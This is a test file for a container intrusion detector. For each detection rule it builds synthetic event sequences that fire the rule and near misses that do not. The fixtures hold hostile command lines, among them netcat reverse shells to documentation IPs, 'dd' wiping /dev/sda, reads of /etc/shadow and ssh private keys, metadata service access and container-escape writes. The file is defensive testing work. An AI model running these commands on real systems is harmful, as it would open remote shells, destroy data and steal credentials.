/**
 * Every default rule fires on a crafted, realistic event sequence and stays quiet on a near miss.
 * Each case names the rule; the last event of `fire` must raise it, no event of `miss` may.
 */
import { describe, expect, test } from 'vitest';
import type { IEvent } from '@boxwatch/core';
import { Detector, type AlertEvent } from '@boxwatch/detector';
import { DB, WEB, connect, ev, exec, fork, open } from '../helpers/events.js';

interface Case {
  rule: string;
  fire: () => IEvent[];
  miss: () => IEvent[];
  /** Containers to freeze before the sequence. */
  frozen?: string[];
}

const sh = (pid = 100) => exec('/bin/sh', ['sh', '-c', 'id'], { pid, ppid: 99 });

const cases: Case[] = [
  // 136 << 20: /dev/pts/0 as a kernel dev_t. A script's shell (no terminal) is the near miss.
  { rule: 'Terminal shell in container', fire: () => [exec('/bin/bash', ['bash'], { pid: 100, tty: 136 << 20 })], miss: () => [exec('/bin/bash', ['bash', '-c', 'make'], { pid: 100 })] },
  {
    rule: 'Web server spawned shell',
    fire: () => [exec('/usr/sbin/nginx', ['nginx'], { pid: 10 }), fork(10, 11), exec('/bin/sh', ['sh', '-c', 'id'], { pid: 11, ppid: 10 })],
    miss: () => [exec('/usr/sbin/nginx', ['nginx'], { pid: 10 }), fork(10, 11), exec('/usr/bin/id', ['id'], { pid: 11, ppid: 10 })],
  },
  { rule: 'Read sensitive file', fire: () => [open('/etc/shadow', 'r', { comm: 'cat' })], miss: () => [open('/etc/passwd', 'r', { comm: 'cat' })] },
  { rule: 'Read ssh private key', fire: () => [open('/root/.ssh/id_ed25519', 'r')], miss: () => [open('/root/.ssh/id_ed25519.pub', 'r')] },
  { rule: 'Write below etc', fire: () => [open('/etc/crontab', 'w')], miss: () => [open('/etc/crontab', 'r')] },
  { rule: 'Write below binary dir', fire: () => [open('/usr/bin/ls', 'w')], miss: () => [open('/usr/lib/x86_64-linux-gnu/libfoo.so', 'w')] },
  { rule: 'Write below root home', fire: () => [open('/root/.profile', 'w')], miss: () => [open('/root/.bash_history', 'w')] },
  { rule: 'Package manager run in container', fire: () => [exec('/usr/bin/apt-get', ['apt-get', 'install', 'nmap'])], miss: () => [exec('/usr/bin/apt-cache', ['apt-cache', 'policy'])] },
  {
    rule: 'Drift - executable written at run time executed',
    fire: () => [open('/usr/local/bin/payload', 'c', { comm: 'curl', pid: 50 }), exec('/usr/local/bin/payload', ['payload'], { pid: 51 })],
    miss: () => [open('/usr/local/bin/payload', 'r', { comm: 'curl', pid: 50 }), exec('/usr/local/bin/payload', ['payload'], { pid: 51 })],
  },
  { rule: 'Execution from tmp or shm', fire: () => [exec('/dev/shm/x', ['x'])], miss: () => [exec('/usr/lib/tmp/x', ['x'])] },
  {
    rule: 'Fileless execution via memfd',
    fire: () => [ev('syscall.memfd_create', { name: '', flags: 1, ret: 3 }, { pid: 60, comm: 'python3' }), exec('/proc/self/fd/3', ['[kworker]'], { pid: 60 })],
    miss: () => [exec('/proc/self/fd/3', ['x'], { pid: 61 })],
  },
  { rule: 'Network tool run in container', fire: () => [exec('/usr/bin/nc', ['nc', '-lvp', '9000'])], miss: () => [exec('/usr/bin/curl', ['curl', 'http://x'])] },
  {
    rule: 'Reverse shell - shell with outbound connection',
    fire: () => [exec('/usr/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'], { pid: 70 }), connect('203.0.113.9', 4444, { pid: 70, comm: 'nc' }), fork(70, 71), exec('/bin/sh', ['sh'], { pid: 71, ppid: 70 })],
    miss: () => [exec('/usr/bin/nc', ['nc', '-l', '9000'], { pid: 70 }), fork(70, 71), exec('/bin/sh', ['sh'], { pid: 71, ppid: 70 })],
  },
  {
    rule: 'Reverse shell - shell connected out',
    fire: () => [exec('/bin/bash', ['bash', '-i'], { pid: 80 }), connect('203.0.113.9', 443, { pid: 80, comm: 'bash' })],
    miss: () => [exec('/usr/bin/curl', ['curl'], { pid: 80 }), connect('203.0.113.9', 443, { pid: 80, comm: 'curl' })],
  },
  {
    // busybox sh running wget without an exec: the shell itself connects, to loopback
    rule: 'Reverse shell - shell connected out',
    fire: () => [exec('/bin/sh', ['sh', '/app.sh'], { pid: 81 }), connect('198.51.100.7', 4444, { pid: 81, comm: 'sh' })],
    miss: () => [exec('/bin/sh', ['sh', '/app.sh'], { pid: 81 }), connect('127.0.0.1', 8080, { pid: 81, comm: 'sh' })],
  },
  {
    rule: 'Ptrace attach in container',
    fire: () => [ev('syscall.ptrace', { request: 16, request_name: 'PTRACE_ATTACH', target_pid: 1, ret: 0 }, { comm: 'gdb' })],
    miss: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: 0 }, { comm: 'strace' })],
  },
  {
    rule: 'Kernel module load',
    fire: () => [ev('syscall.finit_module', { fd: 3, ret: 0 }, { comm: 'insmod', container: null })],
    miss: () => [ev('syscall.finit_module', { fd: 3, ret: -1 }, { comm: 'insmod', container: null })],
  },
  {
    rule: 'Denied namespace or mount syscall in container',
    fire: () => [ev('syscall.unshare', { flags: 0x20000, flag_names: ['CLONE_NEWNS'], ret: -1 }, { comm: 'unshare' })],
    miss: () => [ev('syscall.unshare', { flags: 0x20000, flag_names: ['CLONE_NEWNS'], ret: -1 }, { comm: 'unshare', container: null })],
  },
  {
    rule: 'Mount in container',
    fire: () => [ev('syscall.mount', { source: '/dev/vda1', target: '/mnt', fstype: 'ext4', flags: 0, ret: 0 }, { comm: 'mount' })],
    miss: () => [ev('syscall.mount', { source: '/dev/vda1', target: '/mnt', fstype: 'ext4', flags: 0, ret: -1 }, { comm: 'mount' })],
  },
  {
    rule: 'Unshare namespaces in container',
    fire: () => [ev('syscall.unshare', { flags: 0x10020000, flag_names: ['CLONE_NEWUSER', 'CLONE_NEWNS'], ret: 0 }, { comm: 'unshare' })],
    miss: () => [ev('syscall.unshare', { flags: 0x200, flag_names: ['CLONE_FILES'], ret: 0 }, { comm: 'unshare' })],
  },
  {
    rule: 'Setns in container',
    fire: () => [ev('syscall.setns', { fd: 3, nstype: 0x20000, nstype_names: ['CLONE_NEWNS'], ret: 0 }, { comm: 'nsenter' })],
    miss: () => [ev('syscall.setns', { fd: 3, nstype: 0x20000, nstype_names: ['CLONE_NEWNS'], ret: 0 }, { comm: 'nsenter', container: null })],
  },
  { rule: 'Write to cgroup release_agent', fire: () => [open('/tmp/cgrp/release_agent', 'w')], miss: () => [open('/tmp/cgrp/release_agent', 'r')] },
  { rule: 'Write to core_pattern', fire: () => [open('/proc/sys/kernel/core_pattern', 'w')], miss: () => [open('/proc/sys/kernel/core_pattern', 'r')] },
  { rule: 'Write to proc sys', fire: () => [open('/proc/sys/net/ipv4/ip_forward', 'w')], miss: () => [open('/proc/sys/net/ipv4/ip_forward', 'r')] },
  { rule: 'Container runtime socket access', fire: () => [open('/var/run/docker.sock', 'rw', { comm: 'curl' })], miss: () => [open('/var/run/docker.pid', 'r', { comm: 'curl' })] },
  {
    rule: 'Set setuid or setgid bit',
    fire: () => [ev('syscall.fchmodat', { path: '/tmp/rootsh', mode: 0o4755, setuid: true, setgid: false, ret: 0 }, { comm: 'chmod' })],
    miss: () => [ev('syscall.fchmodat', { path: '/tmp/rootsh', mode: 0o755, setuid: false, setgid: false, ret: 0 }, { comm: 'chmod' })],
  },
  { rule: 'Cloud metadata service contacted', fire: () => [connect('169.254.169.254', 80, { comm: 'curl' })], miss: () => [connect('169.254.169.253', 80, { comm: 'curl' })] },
  { rule: 'Connection to mining pool port', fire: () => [connect('198.51.100.7', 14444, { comm: 'xmrig' })], miss: () => [connect('198.51.100.7', 443, { comm: 'xmrig' })] },
  {
    rule: 'Traffic between banned containers',
    fire: () => [ev('net.banned', { direction: 'send', saddr: '172.17.0.2', sport: 40001, daddr: '172.17.0.3', dport: 5432, bytes: 120, rule: 'web->db' }, { pid: 0, comm: '' })],
    miss: () => [ev('net.flow', { proto: 'tcp', saddr: '172.17.0.2', sport: 40001, daddr: '172.17.0.3', dport: 5432, state: 'established', bytes_sent: 120, bytes_recv: 0, peer_container: { id: DB.id, name: 'db' }, interval_ms: 1000 }, { pid: 0, comm: '' })],
  },
  {
    rule: 'Exec or mkdir in frozen container',
    frozen: ['web'],
    fire: () => [ev('syscall.mkdirat', { path: '/var/www/new', mode: 0o755, ret: 0 }, { comm: 'mkdir' })],
    miss: () => [ev('syscall.mkdirat', { path: '/var/www/new', mode: 0o755, ret: 0 }, { comm: 'mkdir', container: DB })],
  },
  {
    rule: 'Privilege escalation to root via setuid',
    fire: () => [ev('process.exec', { filename: '/usr/bin/sudo', argv: ['sudo', 'sh'], ppid: 1, uid: 1000, ns_pid: 9 }, { pid: 90, comm: 'sudo' }), ev('syscall.setuid', { uid: 0, ret: 0 }, { pid: 90, comm: 'sudo' })],
    miss: () => [ev('process.exec', { filename: '/usr/sbin/nginx', argv: ['nginx'], ppid: 1, uid: 0, ns_pid: 9 }, { pid: 90, comm: 'nginx' }), ev('syscall.setuid', { uid: 0, ret: 0 }, { pid: 90, comm: 'nginx' })],
  },
  {
    rule: 'BPF program load in container',
    fire: () => [ev('syscall.bpf', { cmd: 5, cmd_name: 'BPF_PROG_LOAD', ret: 7 }, { comm: 'loader' })],
    miss: () => [ev('syscall.bpf', { cmd: 0, cmd_name: 'BPF_MAP_CREATE', ret: 7 }, { comm: 'loader' })],
  },
  {
    rule: 'Link over sensitive file',
    fire: () => [ev('syscall.symlink', { target: '/etc/../etc/shadow', linkpath: '/tmp/s', resolved_target: '/etc/shadow', resolved_linkpath: '/tmp/s', ret: 0 }, { comm: 'ln' })],
    miss: () => [ev('syscall.link', { oldpath: '/etc/passwd', newpath: '/tmp/p', resolved_oldpath: '/etc/passwd', resolved_newpath: '/tmp/p', ret: 0 }, { comm: 'ln' })],
  },
  {
    rule: 'Log or shell history cleared',
    fire: () => [ev('syscall.unlink', { path: '.ash_history', resolved_path: null, ret: 0 }, { comm: 'rm' })],
    // Rotation: a rotated generation deleted, and a shell starting a fresh log after `mv`.
    miss: () => [
      ev('syscall.unlink', { path: '/var/log/app.log.2.gz', resolved_path: '/var/log/app.log.2.gz', ret: 0 }, { comm: 'sh' }),
      open('/var/log/app.log', 'w', { comm: 'sh' }),
    ],
  },
  { rule: 'Bulk data removal tool run', fire: () => [exec('/bin/dd', ['dd', 'if=/dev/zero', 'of=/dev/sda'])], miss: () => [exec('/bin/dd', ['dd', 'if=/dev/zero', 'of=/dev/null'])] },
  {
    rule: 'Packet or raw socket created',
    fire: () => [ev('syscall.socket', { family: 17, family_name: 'AF_PACKET', sock_type: 3, sock_type_name: 'SOCK_RAW', protocol: 768, ret: 3 }, { comm: 'tcpdump' })],
    miss: () => [ev('syscall.socket', { family: 2, family_name: 'AF_INET', sock_type: 3, sock_type_name: 'SOCK_RAW', protocol: 1, ret: 3 }, { comm: 'ping' })],
  },
  { rule: 'Netcat or socat with exec option', fire: () => [exec('/bin/nc', ['nc', '-lp', '9000', '-e', '/bin/sh'])], miss: () => [exec('/bin/nc', ['nc', '-lp', '9000'])] },
  { rule: 'Search for credentials', fire: () => [exec('/usr/bin/find', ['find', '/', '-name', 'id_rsa'])], miss: () => [exec('/usr/bin/find', ['find', '/app', '-name', '*.log'])] },
  {
    rule: 'Network socket redirected onto stdin or stdout',
    fire: () => [exec('/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'], { pid: 90 }), ev('syscall.dup2', { oldfd: 3, newfd: 0, oldfd_socket: true, oldfd_family: 2, oldfd_family_name: 'AF_INET', ret: 0 }, { pid: 90, comm: 'nc' })],
    // A unix socketpair onto stdout (a supervisor's log pipe) is ordinary.
    miss: () => [ev('syscall.dup2', { oldfd: 3, newfd: 1, oldfd_socket: true, oldfd_family: 1, oldfd_family_name: 'AF_UNIX', ret: 1 }, { comm: 'supervisord' })],
  },
  {
    rule: 'Ptrace anti-debugging in container',
    fire: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: -1 }, { comm: 'malware' })],
    miss: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: 0 }, { comm: 'gdb', container: null })],
  },
  {
    rule: 'Outbound SSH to non-standard port',
    fire: () => [exec('/usr/bin/ssh', ['ssh', '-p', '2222', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 2222, ret: 0 }, { pid: 70, comm: 'ssh' })],
    miss: () => [exec('/usr/bin/ssh', ['ssh', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 22, ret: 0 }, { pid: 70, comm: 'ssh' })],
  },
  {
    rule: 'Contact with the Kubernetes API server',
    fire: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.1', dport: 443, ret: -115 }, { comm: 'curl' })],
    miss: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.10', dport: 53, ret: 0 }, { comm: 'curl' })],
  },
  {
    rule: 'Kernel module load attempt in container',
    fire: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: -1, blocked: true }, { comm: 'insmod' })],
    miss: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: 0 }, { comm: 'insmod', container: null })],
  },
  {
    rule: 'System user interactive session',
    fire: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh'], ppid: 1, uid: 33, ns_pid: 7, tty: 136 << 20 }, { comm: 'sh' })],
    miss: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh', '-c', 'php artisan queue:work'], ppid: 1, uid: 33, ns_pid: 7, tty: 0 }, { comm: 'sh' })],
  },
  { rule: 'Debugfs run in container', fire: () => [exec('/sbin/debugfs', ['debugfs', '/dev/sda1'])], miss: () => [exec('/sbin/dumpe2fs', ['dumpe2fs', '/dev/sda1'])] },
];

function run(events: IEvent[], frozen: string[] = []): AlertEvent[] {
  const d = new Detector({ models: false, flushIntervalMs: 0, frozen });
  expect(d.ruleErrors.map((e) => e.message)).toEqual([]);
  const alerts: AlertEvent[] = [];
  d.on('alert', (a) => alerts.push(a));
  for (const e of events) d.ingest(e);
  void d.close();
  return alerts;
}

describe('default rules', () => {
  test('the default set loads cleanly with at least 25 rules, and every rule has a case here', () => {
    const d = new Detector({ models: false, flushIntervalMs: 0 });
    expect(d.ruleErrors).toEqual([]);
    const names = d.rules!.rules.map((r) => r.name);
    expect(names.length).toBeGreaterThanOrEqual(25);
    expect(new Set(cases.map((c) => c.rule))).toEqual(new Set(names));
    // Every rule is indexed by event type (none evaluated for every event).
    expect(d.rules!.rules.filter((r) => r.types === null).map((r) => r.name)).toEqual([]);
    void d.close();
  });

  for (const c of cases) {
    test(`${c.rule}: fires`, () => {
      const events = c.fire();
      const alerts = run(events, c.frozen);
      const hit = alerts.find((a) => a.rule === c.rule);
      expect(hit, `alerts: ${alerts.map((a) => a.rule).join(', ')}`).toBeDefined();
      expect(hit!.evidence[0]!.type).toBe(events[events.length - 1]!.type);
      expect(hit!.message).not.toContain('{{');
    });
    test(`${c.rule}: quiet on the near miss`, () => {
      const alerts = run(c.miss(), c.frozen);
      expect(alerts.map((a) => a.rule)).not.toContain(c.rule);
    });
  }
});

describe('frozen containers', () => {
  test('unfreeze stops the frozen rule; freeze by id prefix works', () => {
    const d = new Detector({ models: false, flushIntervalMs: 0 });
    const alerts: AlertEvent[] = [];
    d.on('alert', (a) => alerts.push(a));
    const mk = () => ev('syscall.mkdir', { path: '/x', mode: 0o755, ret: 0 }, { comm: 'mkdir' });
    d.freeze(WEB.id!.slice(0, 12));
    d.ingest(mk());
    expect(alerts.filter((a) => a.rule === 'Exec or mkdir in frozen container')).toHaveLength(1);
    expect(d.unfreeze(WEB.id!.slice(0, 12))).toBe(true);
    d.ingest(ev('syscall.mkdir', { path: '/y', mode: 0o755, ret: 0 }, { comm: 'mkdir' }));
    expect(alerts.filter((a) => a.rule === 'Exec or mkdir in frozen container')).toHaveLength(1);
    void d.close();
  });
});

describe('container runtime setup', () => {
  // What runc's init does inside every new container before the entrypoint runs (seen live).
  const runcInit = { comm: 'runc:[2:INIT]', pid: 700 };
  const setup = () => [
    ev('syscall.mount', { source: 'proc', target: '/proc/self/fd/6', fstype: 'proc', flags: 0, ret: 0 }, runcInit),
    ev('syscall.mount', { source: '/proc/bus', target: '/proc/bus', fstype: null, flags: 0, ret: 0 }, runcInit),
    ev('syscall.mount', { source: null, target: '/sys/firmware', fstype: null, flags: 0, ret: -2 }, runcInit),
    open('/proc/sys/net/ipv4/ping_group_range', 'w', runcInit),
  ];

  test('raises nothing for runc init mounting and tuning a new container', () => {
    expect(run(setup()).map((a) => a.rule)).toEqual([]);
  });

  test('is not an excuse for a process that only calls itself runc after its exec was seen', () => {
    const impostor = { comm: 'runc:[2:INIT]', pid: 701 };
    const alerts = run([
      exec('/tmp/x', ['x'], { pid: 701 }),
      ev('syscall.mount', { source: '/dev/vda', target: '/mnt', fstype: 'ext4', flags: 0, ret: 0 }, impostor),
      open('/proc/sys/kernel/modprobe', 'w', impostor),
    ]).map((a) => a.rule);
    expect(alerts).toContain('Mount in container');
    expect(alerts).toContain('Write to proc sys');
  });

  test('ordinary failures (ENOENT) are not reported as denied; EPERM and seccomp blocks are', () => {
    const m = (ret: number, blocked: boolean) => ev('syscall.mount', { source: 'x', target: '/mnt', fstype: 'tmpfs', flags: 0, ret, blocked }, { comm: 'mount' });
    expect(run([m(-2, false)]).map((a) => a.rule)).not.toContain('Denied namespace or mount syscall in container');
    expect(run([m(-1, false)]).map((a) => a.rule)).toContain('Denied namespace or mount syscall in container');
    expect(run([m(-1, true)]).map((a) => a.rule)).toContain('Denied namespace or mount syscall in container');
  });
});

describe('rules that follow the process tree', () => {
  test('a shell below a CGI program of a web server that never exec\'d (busybox httpd) is a web shell', () => {
    // server.sh runs httpd as an in-process applet (no exec), httpd forks the CGI, the CGI runs sh.
    const alerts = run([
      exec('/server.sh', ['/bin/sh', '/server.sh'], { pid: 10 }),
      fork(10, 11),
      exec('/www/cgi-bin/status', ['/www/cgi-bin/status'], { pid: 11, ppid: 10 }),
      fork(11, 12),
      exec('/bin/sh', ['/bin/sh', '-c', 'id'], { pid: 12, ppid: 11 }),
    ]).map((a) => a.rule);
    expect(alerts).toContain('Web server spawned shell');
  });

  test('the same shell below an ordinary script is not a web shell', () => {
    const alerts = run([
      exec('/usr/local/bin/backup', ['/usr/local/bin/backup'], { pid: 11 }),
      fork(11, 12),
      exec('/bin/sh', ['/bin/sh', '-c', 'id'], { pid: 12, ppid: 11 }),
    ]).map((a) => a.rule);
    expect(alerts).not.toContain('Web server spawned shell');
  });

  test('a shell told to run a script from /dev/shm counts as execution from shm; a command mentioning /tmp does not', () => {
    expect(run([exec('/bin/sh', ['sh', '/dev/shm/.x'], { pid: 20 })]).map((a) => a.rule)).toContain('Execution from tmp or shm');
    expect(run([exec('/bin/sh', ['sh', '-c', 'cat /tmp/f'], { pid: 21 })]).map((a) => a.rule)).not.toContain('Execution from tmp or shm');
  });

  test('a network tool run as an in-process applet (no exec, so the name comes from comm) is seen when it connects', () => {
    const alerts = run([exec('/bin/sh', ['sh', '/job.sh'], { pid: 40 }), connect('10.0.0.9', 22, { pid: 41, comm: 'nc' })]).map((a) => a.rule);
    expect(alerts).toContain('Network tool run in container');
    expect(run([exec('/bin/sh', ['sh', '/job.sh'], { pid: 40 }), connect('10.0.0.9', 22, { pid: 41, comm: 'wget' })]).map((a) => a.rule)).not.toContain('Network tool run in container');
  });

  test('a connection seen before the fork that created its process is kept (events from separate ring buffers)', () => {
    const alerts = run([
      exec('/bin/nc', ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'], { pid: 30 }),
      // cnetwork's ring buffer delivered the child's connect before syscall's fork record
      connect('10.0.0.9', 4444, { pid: 31, comm: 'nc' }),
      fork(30, 31),
      exec('/bin/sh', ['/bin/sh'], { pid: 31, ppid: 30 }),
    ]).map((a) => a.rule);
    expect(alerts.some((r) => r?.startsWith('Reverse shell'))).toBe(true);
  });
});
